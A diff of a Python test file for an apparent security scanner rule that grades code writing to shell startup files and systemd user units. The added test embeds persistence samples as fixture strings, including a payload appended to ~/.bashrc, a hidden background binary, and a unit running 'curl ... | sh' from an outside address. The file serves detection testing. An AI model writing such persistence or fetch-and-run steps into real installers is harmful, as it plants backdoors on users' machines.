@@ -460,7 +460,7 @@ def test_startup_files_reached_through_built_paths_and_persistence_commands_in_v
             "        fh.write(exe)\n"
             "    conf = Path.home() / '.config' / 'app' / 'a.toml'\n"
             "    conf.write_text(exe)\n")
-    assert _by_line("shell-startup-file-write", "setup.py", text) == {5: "critical", 7: "high"}
+    assert _by_line("shell-startup-file-write", "setup.py", text) == {5: "critical", 7: "medium", 8: "high"}
     text = ("import subprocess\n"
             "def g(exe, plist):\n"
             "    task = ['schtasks', '/create', '/tn', 'u', '/tr', exe]\n"
@@ -492,7 +492,7 @@ def test_a_curl_pipe_line_written_through_a_startup_file_handle_is_critical():
             "        rc.write(x)\n"
             "    with open('/tmp/notes.txt', 'a') as other:\n"
             "        other.write(LINE)\n")
-    assert _by_line("shell-startup-file-write", "setup.py", text) == {4: "high", 5: "critical"}
+    assert _by_line("shell-startup-file-write", "setup.py", text) == {4: "medium", 5: "critical", 6: "high"}
 
 
 def test_a_fetch_and_run_command_under_a_run_key_is_critical_the_key_itself_high():
@@ -559,3 +559,31 @@ def test_joblib_load_of_a_downloaded_file_is_critical_of_a_packaged_model_medium
 def test_yaml_loader_picked_from_a_table_is_high_only_when_an_entry_builds_objects():
     text = (FIXTURES / "yaml-unsafe-load" / "loader_table.py").read_text()
     assert _by_line("yaml-unsafe-load", "y.py", text) == {11: "high"}
+
+
+def test_startup_file_gets_high_for_commands_and_medium_for_settings_only():
+    text = ("import os\nfrom pathlib import Path\n"
+            "def add_path(bin_dir):\n"
+            "    with open(os.path.expanduser('~/.bashrc'), 'a') as fh:\n"
+            "        fh.write(f'export PATH=\"{bin_dir}:$PATH\"\\n')\n"
+            "def hook():\n"
+            "    with open(os.path.expanduser('~/.zshrc'), 'a') as fh:\n"
+            "        fh.write('eval \"$(pyenv init -)\"\\n')\n"
+            "def drop(payload):\n"
+            "    with open(os.path.expanduser('~/.bashrc'), 'a') as fh:\n"
+            "        fh.write(payload)\n"
+            "def background():\n"
+            "    with open(os.path.expanduser('~/.profile'), 'a') as fh:\n"
+            "        fh.write('~/.cache/.svc >/dev/null 2>&1 &\\n')\n"
+            "def own_unit():\n"
+            "    (Path.home() / '.config/systemd/user/acme.service').write_text(\n"
+            "        '[Unit]\\nDescription=Acme\\n[Service]\\nExecStart=/usr/local/bin/acme --serve\\n')\n"
+            "def hidden_unit():\n"
+            "    (Path.home() / '.config/systemd/user/upd.service').write_text(\n"
+            "        '[Service]\\nExecStart=/usr/bin/python3 /home/u/.cache/.u.py\\n')\n"
+            "def fetch_unit():\n"
+            "    (Path.home() / '.config/systemd/user/f.service').write_text(\n"
+            "        \"[Service]\\nExecStart=/bin/sh -c 'curl -s http://203.0.113.9/x | sh'\\n\")\n")
+    assert _by_line("shell-startup-file-write", "install.py", text) == {
+        4: "medium", 5: "medium", 7: "medium", 8: "medium", 10: "medium", 11: "high", 13: "medium", 14: "high",
+        16: "medium", 19: "high", 22: "critical"}
